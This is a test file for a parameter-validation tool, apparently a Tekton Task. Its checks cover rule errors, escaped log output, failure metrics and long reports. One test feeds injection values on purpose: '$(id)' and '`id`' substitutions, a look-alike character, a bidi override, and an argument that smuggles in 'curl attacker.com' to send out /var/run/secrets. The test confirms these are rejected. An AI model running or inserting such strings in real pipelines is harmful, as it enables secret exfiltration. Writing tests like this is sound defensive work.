import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import t from 'tap';
import { bundleStep } from '../../src/build/bundle-step.ts';
import { repoRoot } from '../harness/shared.ts';
import definition from '../../tasks/validate-params/task.ts';
import { SEED_ATTACK } from '../params/attack-strings.ts';
import { MAX_SERIES_PER_METRIC } from '../../src/telemetry/metrics.ts';

// The program as it ships: bundled into one ESM file, run by node with no node_modules beside it.
const dir = mkdtempSync(join(tmpdir(), 'validate-params-'));
t.teardown(() => rmSync(dir, { recursive: true, force: true }));
const program = join(dir, 'validate-params.mjs');
writeFileSync(program, (await bundleStep(repoRoot, 'validate-params')).code);

const sha = '3f786850e387550fdab836ed7e6dc881de23001b';
const RULES = JSON.stringify({
  'git-revision': { type: 'git-sha' },
  'image-tag': { type: 'image-tag' },
  'deploy-env': { type: 'enum', values: ['dev', 'prod'] },
  images: { type: 'image-reference', optional: true },
});

let runs = 0;
function run(args: string[], env: Record<string, string>) {
  const resultsDir = join(dir, `results-${++runs}`);
  const metricsFile = join(dir, `metrics-${runs}.prom`);
  const child = spawnSync(process.execPath, [program, ...args], {
    cwd: dir,
    env: { TEKTON_RESULTS_DIR: resultsDir, TEKTON_CATALOG_METRICS_FILE: metricsFile, ...env },
    encoding: 'utf8',
    timeout: 30_000,
  });
  const results = existsSync(resultsDir)
    ? Object.fromEntries(readdirSync(resultsDir).map((name) => [name, readFileSync(join(resultsDir, name), 'utf8')]))
    : {};
  const metrics = existsSync(metricsFile) ? readFileSync(metricsFile, 'utf8') : '';
  return { code: child.status, stdout: child.stdout, stderr: child.stderr, results, metrics };
}

t.test('--help prints usage and exits 0', async (t) => {
  const out = run(['--help'], {});
  t.equal(out.code, 0);
  t.match(out.stdout, /^Usage: validate-params/);
  t.match(out.stdout, /PARAM_<NAME>/);
  t.same(out.results, {});
});

t.test('a valid set from env and args: exit 0, VALIDATED=true and a digest', async (t) => {
  const out = run(['image-tag=v1.2.3', 'deploy-env=prod', '--elements', 'images', 'alpine:3.20', `ghcr.io/a/b@sha256:${'a'.repeat(64)}`], {
    RULES,
    PARAM_GIT_REVISION: sha,
  });
  t.equal(out.code, 0, out.stderr);
  t.equal(out.results.VALIDATED, 'true');
  t.match(out.results.PARAMS_DIGEST, /^sha256:[0-9a-f]{64}$/);
  t.match(out.stdout, /4 param\(s\) valid/);
  t.equal(out.metrics, '', 'no failures, no counters');
});

t.test('YAML rules work in the bundle too', async (t) => {
  const out = run([`git-revision=${sha}`], { RULES: 'git-revision: {type: git-sha}\n' });
  t.equal(out.code, 0, out.stderr);
  t.equal(out.results.VALIDATED, 'true');
});

t.test('hostile values: exit 1, every failure listed, values shown only escaped', async (t) => {
  const out = run(['image-tag=`id`', 'deploy-env=pr\u043ed', 'surprise=$(id)', '--elements', 'images', 'ok:1', 'x\u202ey'], {
    RULES,
    TASK_NAME: 'validate',
    PARAM_GIT_REVISION: SEED_ATTACK,
  });
  t.equal(out.code, 1);
  t.same(out.results, {}, 'no VALIDATED result on failure');
  t.notOk(out.stderr.includes(SEED_ATTACK), 'the seed attack never appears raw');
  t.notOk(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/u.test(out.stderr), 'no control or bidi character in the log');
  t.notOk(out.stderr.includes('pr\u043ed'), 'the look-alike is escaped');
  t.match(out.stderr, /rejected 5 param value\(s\)/);
  t.match(out.stderr, /\n  hint: fix each value where your Pipeline gets it; if a value is legitimate, change its rule in the "rules" param\n/);
  t.match(out.stderr, /- git-revision \(rule git-sha\): is 100 characters long; at most 64 are allowed; value: "--build-arg FOO=bar; curl attacker\.com -d \$\(cat \/var\/run\/secrets"… \(100 chars\)/);
  t.match(out.stderr, /- image-tag \(rule image-tag\): must be an image tag.*; value: "`id`"/);
  t.match(out.stderr, /- deploy-env \(rule enum\): must be one of "dev", "prod"; value: "pr\\u043ed"/);
  t.match(out.stderr, /- surprise \(rule \(no rule\)\): has no rule.*; value: "\$\(id\)"/);
  t.match(out.stderr, /- images\[1\] \(rule image-reference\): holds a bidi override \(U\+202E\) at index 1; value: "x\\u202ey"/);
  for (const param of ['git-revision', 'image-tag', 'deploy-env', 'surprise']) {
    t.match(out.stderr, new RegExp(`^metrics: tekton_param_validation_failures_total\\{param="${param}",task="validate"\\} 1$`, 'm'));
  }
  t.match(out.metrics, /^tekton_param_validation_failures_total\{param="images",task="validate"\} 1$/m);
  t.equal(out.metrics.trim().split('\n').length, 5, 'one Prometheus sample per failing param');
});

t.test('a 100 kB value is refused on length and shown truncated', async (t) => {
  const out = run([], { RULES, PARAM_GIT_REVISION: 'a'.repeat(100_000), PARAM_IMAGE_TAG: 'v1', PARAM_DEPLOY_ENV: 'dev' });
  t.equal(out.code, 1);
  t.match(out.stderr, /is 100000 characters long/);
  t.ok(out.stderr.length < 2000, 'the log stays short');
});

t.test('missing and unknown params fail closed', async (t) => {
  const out = run([], { RULES, PARAM_UNDECLARED: 'x' });
  t.equal(out.code, 1);
  t.match(out.stderr, /- PARAM_UNDECLARED \(rule \(no rule\)\)/);
  t.match(out.stderr, /- git-revision \(rule git-sha\): is missing/);
  t.notMatch(out.stderr, /- images/, 'optional params may be left out');
});

t.test('bad rules or arguments: exit 2 naming the field, nothing validated', async (t) => {
  const cases: [string[], Record<string, string>, RegExp][] = [
    [[], {}, /RULES environment variable is not set/],
    [[], { RULES: '{"a": {"type": "gitsha"}}' }, /rules\.a\.type: must be one of the types/],
    [[], { RULES: '{"a": {"type": "regex", "pattern": "(?<=x)a", "maxLength": 9}}' }, /CONFIG_RULE_REGEX_UNSUPPORTED.*rules\.a: .*lookbehind/],
    [[], { RULES: '{"a-b": {"type": "bool"}, "a_b": {"type": "bool"}}' }, /PARAM_A_B/],
    [['--frobnicate'], { RULES }, /the "values" entry "--frobnicate" is not NAME=VALUE/],
    [['not-an-entry'], { RULES }, /is not NAME=VALUE/],
    [[`git-revision=${sha}`], { RULES, PARAM_GIT_REVISION: sha }, /given both/],
  ];
  for (const [args, env, message] of cases) {
    const out = run(args, env);
    t.equal(out.code, 2, `${message}`);
    t.match(out.stderr, message);
    t.notMatch(out.stderr, /\n\s+at /, 'no stack trace');
    t.same(out.results, {});
  }
});

t.test("the Task's own args, expanded as Tekton would, validate a Pipeline's values", async (t) => {
  const step = definition.steps[0]!;
  const params: Record<string, string | string[]> = {
    values: [`git-revision=${sha}`, 'image-tag=v1', 'deploy-env=dev'],
    'elements-name': 'images',
    elements: ['alpine:3.20', 'busybox:1.36'],
  };
  const argv = step.args.flatMap((arg) => {
    const array = /^\$\(params\.([\w-]+)\[\*\]\)$/.exec(arg);
    if (array) return params[array[1]!] as string[];
    return [arg.replace(/\$\(params\.([\w-]+)\)/g, (_, name: string) => params[name] as string)];
  });
  // Every other param at its default and the TaskRun's context, as Tekton fills them in.
  const defaults = Object.fromEntries(definition.params.flatMap((p) => (typeof p.default === 'string' ? [[p.name, p.default]] : [])));
  const context: Record<string, string> = { 'task.name': 'validate', 'taskRun.name': 'build-validate', 'taskRun.namespace': 'default', 'taskRun.uid': '0b7f9c2e-1d2a-4c3b-9e8f-7a6b5c4d3e2f', 'task.retry-count': '0' };
  const env = Object.fromEntries(
    step.env.map((e) => [
      e.name,
      e.value
        .replace('$(params.rules)', RULES)
        .replace(/\$\(params\.([\w-]+)\)/g, (_, name: string) => defaults[name]!)
        .replace(/\$\(context\.([\w.-]+)\)/g, (_, key: string) => context[key]!),
    ]),
  );
  const out = run(argv, env);
  t.equal(out.code, 0, out.stderr);
  t.equal(out.results.VALIDATED, 'true');
  const hostile = run(argv.map((a) => (a === 'image-tag=v1' ? '--help' : a)), env);
  t.equal(hostile.code, 2, 'a bare --help among the values is a usage error, never help with exit 0');
});

t.test('messages a pipeline author reads name the Task params and say what to change', async (t) => {
  const cases: [string, string[], Record<string, string>, RegExp[]][] = [
    ['a values entry without "="', ['oops'], { RULES }, [/the "values" entry "oops" is not NAME=VALUE/, /hint: write each entry of the "values" param as NAME=VALUE/]],
    ['a misspelt type', [], { RULES: 'git-revision: {type: gitsha}' }, [/invalid rule set in the "rules" param:\n  rules\.git-revision\.type: must be one of the types git-sha, /, /hint: fix the "rules" param/]],
    ['a regex rule without maxLength', [], { RULES: 'build-arg: {type: regex, pattern: "[A-Z_]+=.*"}' }, [/rules\.build-arg\.maxLength: is required: a regex rule needs maxLength, .*"maxLength": 256/]],
    ['an empty rules param', [], { RULES: '' }, [/the "rules" param is empty/]],
    ['elements without elements-name', ['--elements', '', 'x'], { RULES }, [/the "elements" param holds 1 element\(s\), but "elements-name" is empty/]],
  ];
  for (const [what, args, env, messages] of cases) {
    const out = run(args, env);
    t.equal(out.code, 2, what);
    for (const message of messages) t.match(out.stderr, message, what);
    t.notMatch(out.stderr, /--help|RULES\.|\bargument\b|Invalid discriminator|Invalid input/, `${what}: no program flag, env variable or schema wording`);
  }
  const tooLong = run(['deploy-env=production', `git-revision=${sha}`, 'image-tag=v1'], { RULES });
  t.equal(tooLong.code, 1);
  t.match(tooLong.stderr, /- deploy-env \(rule enum\): must be one of "dev", "prod"; value: "production"/, 'an enum value that is too long is told the values');
  const missing = run([], { RULES, PARAM_IMAGE_TAG: 'v1', PARAM_DEPLOY_ENV: 'dev' });
  t.match(missing.stderr, /- git-revision \(rule git-sha\): is missing: pass it in the "values" param \("git-revision=\$\(params\.git-revision\)"\)/);
});

t.test('a long failure report reaches a slow log reader whole (process.exit must not drop what the pipe has not taken)', async (t) => {
  const count = 800;
  const rules = JSON.stringify(Object.fromEntries(Array.from({ length: count }, (_, i) => [`p${i}`, { type: 'git-sha' }])));
  const args = Array.from({ length: count }, (_, i) => `p${i}=${'not a sha; '.repeat(5)}${i}`);
  // The reader sleeps first, so the step fills the 64 KiB pipe and has to wait for it.
  const child = spawnSync('/bin/sh', ['-c', '"$0" "$@" 2>&1 >/dev/null | { sleep 1; cat; }', process.execPath, program, ...args], {
    env: { RULES: rules, TEKTON_RESULTS_DIR: join(dir, 'results-slow') },
    encoding: 'utf8',
    timeout: 60_000,
    maxBuffer: 16 << 20,
  });
  t.ok(child.stdout.length > 65536, `${child.stdout.length} bytes: more than a pipe holds`);
  t.match(child.stdout, new RegExp(`rejected ${count} param value`));
  t.equal(child.stdout.match(/^ {2}- p\d+ \(rule git-sha\)/gm)?.length, count, 'every failure is listed');
  t.equal(child.stdout.match(/^metrics: /gm)?.length, MAX_SERIES_PER_METRIC + 1, 'and the metrics lines follow: one per param up to the series bound, then "(other)"');
  t.match(child.stdout, new RegExp(`^metrics: tekton_param_validation_failures_total\\{param="\\(other\\)",task="validate-params"\\} ${count - MAX_SERIES_PER_METRIC}$`, 'm'));
});
